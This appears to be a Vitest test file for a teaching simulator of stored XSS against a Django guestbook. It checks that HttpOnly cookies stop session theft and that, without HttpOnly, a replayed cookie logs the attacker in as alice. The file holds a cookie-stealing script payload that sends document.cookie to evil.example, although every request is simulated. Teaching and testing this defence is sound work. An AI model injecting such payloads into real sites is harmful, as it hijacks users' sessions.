// @vitest-environment jsdom
/**
 * Lab 15 in the world: a page's scripts "run" (simulated) when the page arrives; what they send
 * to another site becomes a Network entry (never sent) and a value on the attacker's server,
 * which an attacker can replay in her browser. Saved and restored with the world.
 */
import { describe, expect, it } from 'vitest';
import { InPageTransport } from '../../src/browser/transport';
import type { DjangoServer } from '../../src/server/server';
import { VirtualClock } from '../../src/world/clock';
import { decodeSaved, encodeSaved } from '../../src/world/persistence';
import { World } from '../../src/world/world';
import { replayStolen } from '../../src/world/attacker';
import { restoreWorld, snapshotWorld } from '../../src/world/snapshot';

const transport = (get: () => DjangoServer) => new InPageTransport(get);
const STEAL = "<script>new Image().src='http://evil.example/steal?c='+document.cookie</script>";

async function lab(httpOnly: boolean) {
  const world = new World({ clock: new VirtualClock(() => 1767225600000), transport });
  world.applySettings({ SESSION_COOKIE_HTTPONLY: httpOnly });
  world.addTab('Mallory');
  await world.navigate('B', '/myapp/guestbook/');
  await world.submitForm('B', 0, { message: STEAL });
  await world.navigate('A', '/myapp/connection/');
  await world.submitForm('A', 0, { username: 'alice', password: 'x' });
  await world.navigate('A', '/myapp/guestbook/');
  return world;
}

describe('page scripts in the world', () => {
  it('with HttpOnly the victim’s page script reads nothing', async () => {
    const world = await lab(true);
    expect(world.tab('A').current?.scripts).toEqual([
      {
        outcome: 'read-cookie',
        cookie: '',
        hidden: ['sessionid'],
        sent: ['http://evil.example/steal?c='],
      },
    ]);
    expect(world.stolen.map((s) => [s.fromTab, s.cookie])).toEqual([
      ['B', ''],
      ['A', ''],
    ]);
    expect(() => replayStolen(world, 'B')).toThrow('no cookie to replay');
  });

  it('without HttpOnly it steals the key, and the attacker’s replay logs her in', async () => {
    const world = await lab(false);
    const key = world.tab('A').browser.jar.all()[0]?.value as string;
    const last = world.stolen.at(-1);
    expect(last).toMatchObject({
      fromTab: 'A',
      cookie: `sessionid=${key}`,
      url: `http://evil.example/steal?c=sessionid=${key}`,
    });
    // The Network entry for the cross-site request: simulated, answered by no one.
    const offsite = world.network.at(-1);
    expect(offsite).toMatchObject({
      browser: 'A',
      method: 'GET',
      url: last?.url,
      path: `/steal?c=sessionid=${key}`,
      via: 'simulated',
      requestHeaders: [
        ['Host', 'evil.example'],
        ['Referer', 'http://localhost/'],
      ],
      response: { status: 204, setCookies: [], body: '' },
    });
    expect(replayStolen(world, 'B')).toBe(1);
    expect(world.tab('B').browser.jar.all()).toMatchObject([
      { name: 'sessionid', value: key, httpOnly: false, expiresAt: null, domain: 'localhost' },
    ]);
    const entry = await world.navigate('B', '/myapp/connection/');
    expect(entry.response.body).toContain('You are : <strong>alice</strong>');
  });

  it('runs scripts when a page arrives (and on reload), not on Back and Forward', async () => {
    const world = await lab(false);
    const count = () => world.stolen.length;
    const before = count();
    await world.navigate('A', '/myapp/connection/');
    world.back('A');
    world.forward('A');
    world.back('A');
    expect(count()).toBe(before);
    await world.reload('A');
    expect(count()).toBe(before + 1);
  });

  it('is saved and restored with the world, and reset with it', async () => {
    const world = await lab(false);
    const loaded = decodeSaved(encodeSaved(snapshotWorld(world), 1));
    expect(loaded.status).toBe('ok');
    if (loaded.status !== 'ok') return;
    const restored = restoreWorld(loaded.world, { transport, realNow: () => 0 });
    expect(snapshotWorld(restored)).toEqual(snapshotWorld(world));
    expect(restored.stolen).toEqual(world.stolen);
    expect(restored.tab('A').current?.scripts).toEqual(world.tab('A').current?.scripts);
    expect(restored.server.snapshot().guestbook).toEqual([{ id: 1, text: STEAL }]);
    restored.resetEverything();
    expect(restored.stolen).toEqual([]);
  });

  it('accepts a save from before lab 15, and refuses a damaged stolen list', async () => {
    const world = await lab(false);
    const saved = JSON.parse(encodeSaved(snapshotWorld(world), 1));
    delete saved.world.stolen;
    delete saved.world.server.guestbook;
    for (const t of saved.world.tabs) for (const h of t.history) delete h.scripts;
    const old = decodeSaved(JSON.stringify(saved));
    expect(old.status).toBe('ok');
    if (old.status === 'ok')
      expect(restoreWorld(old.world, { transport, realNow: () => 0 }).stolen).toEqual([]);
    const bad = JSON.parse(encodeSaved(snapshotWorld(world), 1));
    bad.world.stolen[0].cookie = 42;
    expect(decodeSaved(JSON.stringify(bad))).toMatchObject({
      status: 'invalid',
      problem: { path: 'world.stolen[0].cookie', key: 'input.expected.text' },
    });
    const badReport = JSON.parse(encodeSaved(snapshotWorld(world), 1));
    const page = badReport.world.tabs[0].history.at(-1);
    page.scripts[0].sent = 'http://evil.example/';
    expect(decodeSaved(JSON.stringify(badReport))).toMatchObject({
      status: 'invalid',
      reason: expect.stringMatching(
        /^world\.tabs\[0\]\.history\[\d+\]\.scripts\[0\]\.sent: input\.expected\.list$/,
      ),
    });
  });
});
